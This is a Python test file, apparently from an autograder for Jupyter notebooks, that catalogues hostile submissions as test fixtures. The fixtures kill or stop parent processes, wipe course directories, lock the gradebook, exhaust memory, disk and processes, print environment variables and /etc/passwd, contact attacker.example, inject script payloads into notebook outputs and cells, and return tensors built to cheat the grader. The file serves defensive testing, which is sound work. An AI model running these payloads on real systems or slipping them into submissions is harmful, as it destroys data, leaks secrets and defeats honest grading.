"""Attacks on others: on their time, on what they may not see, on who judges."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

from tests.attacks.attack import (
    ANSWERS,
    HARMING,
    HOST,
    LEAKING,
    MACHINE,
    Attack,
    answer_both,
)
from tests.attacks.material import INSIDE, PORT, SEES, SOFTMAX

# fmt: off
HARMING_AND_LEAKING: list[Attack] = [
    # --- harming others --------------------------------------------------------------
    Attack(HARMING, "parent killed", harms=HOST, before="""
import os, signal
for pid in (os.getppid(), -1, 1, 0):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
"""),
    Attack(HARMING, "parent stopped", harms=HOST, before="""
import os, signal
for pid in (os.getppid(), 1):
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
os.kill(os.getpid(), signal.SIGSTOP)
"""),
    Attack(HARMING, "gradebook locked", before="""
import os, sqlite3
for up in ("..", "../..", "../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        book = sqlite3.connect(path)
        book.execute("begin exclusive")
        if os.fork() == 0:
            import time; time.sleep(30); os._exit(0)
"""),
    Attack(HARMING, "course overwritten", harms=MACHINE, before="""
import glob, os, shutil
for up in ("..", "../..", "../../.."):
    for name in glob.glob(up + "/*"):
        try:
            shutil.rmtree(name) if os.path.isdir(name) else open(name, "w")
        except OSError: pass
"""),
    Attack(HARMING, "memory filled", harms=MACHINE, before="""
held = []
while True: held.append(bytearray(64 << 20))
"""),
    Attack(HARMING, "memory filled by many", harms=MACHINE, before="""
import os, time
for i in range(6):
    if os.fork() == 0:
        held = bytearray(b"x") * (300 << 20)
        time.sleep(20)
        os._exit(0)
time.sleep(3)
"""),
    Attack(HARMING, "disk filled", harms=MACHINE, before="""
n = 0
while True:
    with open(f"part{n}", "wb") as file: file.write(bytes(8 << 20))
    n += 1
"""),
    Attack(HARMING, "many processes", harms=MACHINE, before="""
import os, time
for i in range(200):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
"""),
    Attack(HARMING, "many threads", harms=MACHINE, before="""
import threading, time
for i in range(400): threading.Thread(target=time.sleep, args=(30,)).start()
"""),
    Attack(HARMING, "files kept open", before="""
held = []
while len(held) < 100_000: held.append(open("/dev/null"))
"""),
    Attack(HARMING, "endless and deaf", before="""
import signal
for n in (signal.SIGINT, signal.SIGTERM): signal.signal(n, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
    Attack(HARMING, "prints without end", harms=MACHINE, before="""
import time
end = time.monotonic() + 4
while time.monotonic() < end: print("x" * 10_000)
"""),
    Attack(HARMING, "one huge output", harms=MACHINE, before="""
print("x" * (80 << 20))
"""),
    Attack(HARMING, "crash in C", before="import ctypes\nctypes.string_at(0)"),
    Attack(HARMING, "all descriptors closed",
           before="import os\nos.closerange(0, 4096)"),
    Attack(HARMING, "input is asked for", before="""
answer = input("Your password? ")
import getpass
getpass.getpass()
"""),
    Attack(HARMING, "hangs at the end", before="""
import atexit, time
class Sticky:
    def __del__(self): time.sleep(60)
keep = Sticky()
atexit.register(time.sleep, 60)
"""),
    Attack(HARMING, "kernel asked to restart", before="""
ip = get_ipython()
ip.kernel.do_shutdown(True)
ip.ask_exit(); ip.kernel.shell.exit_now = True
quit()
"""),
    # --- leaking ---------------------------------------------------------------------
    Attack(LEAKING, "environment printed", before="""
import os, subprocess
print(dict(os.environ))
print(subprocess.run("env; id; cat /etc/passwd; ls -la / /home; cat /proc/1/environ",
                     shell=True, capture_output=True, text=True).stdout)
"""),
    Attack(LEAKING, "hidden asserts printed", after="""
print(In)
import linecache
print(linecache.cache.values())
""", answers={INSIDE: "def double(x):\n    if x < 0: raise ValueError(In[-1])\n"
                      "    return 4"}),
    Attack(LEAKING, "network", before=f"""
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    try:
        socket.create_connection((host, {PORT}), timeout=1).send(b"hello")
        print("STO" "LEN a connection")
    except OSError: pass
try: urllib.request.urlopen("http://attacker.example", timeout=1)
except Exception: pass
"""),
    Attack(LEAKING, "script in an output", before="""
from IPython.display import HTML, SVG, Javascript, display, Markdown
display(HTML("<script>pwned()</script><img src=x onerror=pwned()>"
             "<svg onload=pwned()><iframe srcdoc='<script>pwned()</script>'></iframe>"
             "<a href='javascript:pwned()'>x</a><form action=https://attacker.example>"
             "<style>@import 'https://attacker.example/x.css';</style>"
             "<div style='background:url(https://attacker.example/x)'>x</div>"
             "<img src='https://attacker.example/beacon.png'>"
             "<details open ontoggle=pwned()>x</details>"
             "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>"))
display(Javascript("pwned()"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'>"
            "<script>pwned()</script></svg>"))
display(Markdown("<script>pwned()</script> [x](javascript:pwned()) "
                 "![x](https://attacker.example/x.png)"))
"""),
    Attack(LEAKING, "script in a text cell", change=lambda nb: nb.cells.insert(
        1, new_markdown_cell(
            "<script>pwned()</script>\n\n<img src=x onerror=pwned()>\n\n"
            "[x](javascript:pwned()) ![x](https://attacker.example/x.png)\n\n"
            "$\\href{javascript:pwned()}{x}$ <svg/onload=pwned()>\n\n"
            "{{ config }} {% raw %} <meta http-equiv=refresh content=0>"))),
    Attack(LEAKING, "script in a raw cell", change=lambda nb: nb.cells.insert(
        1, NotebookNode(cell_type="raw", metadata={"format": "text/html"},
                        source="<script>pwned()</script>", id="raw"))),
    Attack(LEAKING, "script in streams and errors", before="""
import sys
print("</pre><script>pwned()</script>\\x1b[31m<img src=x onerror=pwned()>\\x1b]8;;x")
print("<script>pwned()</script>", file=sys.stderr)
class Bad(Exception): pass
Bad.__name__ = Bad.__qualname__ = "<script>pwned()</script>"
raise Bad("</pre><img src=x onerror=pwned()>")
"""),
    Attack(LEAKING, "script in a panel", answers={
        SOFTMAX: "def stable_softmax(x):\n"
                 "    return type('<script>pwned()</script>', (), {})()",
        SEES: "def who_sees_whom(layer, x):\n    raise ValueError("
              "'<img src=x onerror=pwned()> `<script>pwned()</script>`')"}),
    Attack(LEAKING, "script under a verdict's mark", answers={INSIDE: """
from IPython.display import publish_display_data
def double(x):
    publish_display_data({"text/html": "<script>pwned()</script>",
        "text/plain": "2.0"}, {"autograder": "verdict"})
    return 4
"""}),
    Attack(LEAKING, "script in attachments", change=lambda nb: nb.cells.insert(
        1, NotebookNode(
            cell_type="markdown", id="a", metadata={},
            source="![x](attachment:x.svg) ![\"onerror=pwned()](attachment:y.png)",
            attachments={
                "x.svg": {"image/svg+xml": "<svg onload='pwned()'/>",
                          "text/html": "<script>pwned()</script>"},
                "y.png": {"image/png": "x' onerror='pwned()"}}))),
    Attack(LEAKING, "widgets with script", change=lambda nb: nb.metadata.update(
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {
            "model_name": "HTMLModel", "state": {
                "value": "<script>pwned()</script>"}}}}}), before="""
from IPython.display import publish_display_data
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "a"},
                      "application/vnd.bokehjs_exec.v0+json": "pwned()",
                      "text/plain": "<script>pwned()</script>"})
"""),
    Attack(LEAKING, "fresh inputs printed", after="print(seen)", answers={
        SOFTMAX: "seen = []\ndef stable_softmax(x):\n    seen.append(x)\n"
                 "    print(x)\n    return x",
        SEES: "def who_sees_whom(layer, x):\n    seen.append(x)\n    return x"}),
    # --- hostile answers -------------------------------------------------------------
    *(Attack(ANSWERS, name, answers={
        SOFTMAX: f"def stable_softmax(x):\n    shape = x.shape\n{body}",
        SEES: f"def who_sees_whom(layer, x):\n    shape = (len(x), len(x))\n{body}",
    }) for name, body in (
        ("huge tensor", "    return torch.zeros(1).expand(12_000, 9_000)"),
        ("not a number everywhere", "    return torch.full(shape, float('nan'))"),
        ("infinite everywhere", "    return torch.full(shape, float('inf'))"),
        ("zero sizes", "    return torch.zeros(0, 5, 0, 1 << 20)"),
        ("no dimensions", "    return torch.tensor(True)"),
        ("many dimensions", "    return torch.zeros((1,) * 60)"),
        ("meta tensor", "    return torch.zeros(shape, device='meta')"),
        ("sparse tensor", "    return torch.zeros(shape).to_sparse()"),
        ("complex tensor", "    return torch.zeros(shape, dtype=torch.complex64)"),
        ("quantised tensor", "    return torch.quantize_per_tensor("
         "torch.zeros(shape), 0.1, 0, torch.qint8)"),
        ("generator without end", "    return iter(int, 1)"),
        ("deep list", "    x = []\n    for _ in range(100_000): x = [x]\n    return x"),
        ("huge text", "    return 'x' * (30 << 20)"),
        ("half a character", "    raise ValueError('\\ud800 half a character')"),
        ("exits", "    raise SystemExit(0)"),
        ("interrupts", "    raise KeyboardInterrupt"),
        ("slow", "    import time\n    time.sleep(2.5)\n    return torch.zeros(shape)"),
        ("hangs deaf", "    while True:\n        try:\n            while True: pass\n"
         "        except BaseException: pass"),
        ("recursion without end", "    return (lambda f: f(f))(lambda f: f(f))"),
    )),
    Attack(ANSWERS, "error without words", answers=answer_both("""
class Mute(Exception):
    def __str__(self): raise Mute
    __repr__ = __str__
def stable_softmax(*a): raise Mute
who_sees_whom = stable_softmax
""")),
    Attack(ANSWERS, "subclass takes over", answers=answer_both("""
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return "5.0"
    def detach(self): return self
    def as_subclass(self, kind): return self
def stable_softmax(x): return torch.zeros(x.shape).as_subclass(Sly)
def who_sees_whom(layer, x): return torch.zeros(len(x), len(x)).as_subclass(Sly)
""")),
    Attack(ANSWERS, "class that lies", answers=answer_both("""
class Liar:
    __class__ = property(lambda self: torch.Tensor)
    def __getattr__(self, name): raise SystemExit
stable_softmax = who_sees_whom = lambda *a: Liar()
""")),
    Attack(ANSWERS, "expression raises", answers=answer_both(
        "class Meta(type):\n    def __call__(cls, *a): raise SystemExit\n"
        "class stable_softmax(metaclass=Meta): pass\nwho_sees_whom = ...")),
    Attack(ANSWERS, "names deleted", answers=answer_both("del torch, check, math")),
]
